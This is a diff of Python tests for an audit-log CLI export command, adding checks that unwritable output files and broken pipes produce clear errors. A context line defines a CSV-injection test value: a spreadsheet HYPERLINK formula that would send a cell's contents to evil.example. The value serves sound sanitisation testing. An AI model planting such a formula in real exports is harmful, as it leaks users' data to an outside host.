@@ -242,6 +242,31 @@ async def test_cli_export_of_one_request_and_a_text_search_recorded(rclient, rse
     assert rows and all(row["payload"] == "" for row in rows)  # found by their texts, shown without them
 
 
+@pytest.mark.parametrize("reading", [["--include-text"], ["--q", "needle-3"]])
+def test_cli_export_that_cannot_write_its_file_says_so_and_records_no_read(rsettings, rstore, reading):
+    since = all_entries(rstore)[0].created_at.date().isoformat()
+    before = len(all_entries(rstore))
+    result = CliRunner().invoke(main, ["audit", "export", "--since", since, "--format", "jsonl", *reading,
+                                       "--out", "/nonexistent/dir/x.jsonl"], env=_cli_env(rsettings))
+    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.exception
+    assert result.stderr.splitlines() == ["Error: cannot write /nonexistent/dir/x.jsonl: No such file or directory"]
+    assert len(all_entries(rstore)) == before  # no payload_read: no text was read out
+
+
+def test_cli_export_to_a_standard_output_that_fails_says_so(rsettings, rstore, monkeypatch):
+    import audit.export
+
+    def broken_pipe(*args, **kwargs):
+        raise BrokenPipeError(32, "Broken pipe")  # what a closed pipe (| head) gives a write
+
+    monkeypatch.setattr(audit.export, "chunks", broken_pipe)
+    since = all_entries(rstore)[0].created_at.date().isoformat()
+    result = CliRunner().invoke(main, ["audit", "export", "--since", since, "--format", "jsonl"],
+                                env=_cli_env(rsettings))
+    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.exception
+    assert result.stderr.splitlines()[-1] == "Error: cannot write to standard output: Broken pipe"
+
+
 #: Values a spreadsheet would run as formulas (OWASP "CSV injection"), and one that starts with the quote.
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")'
 
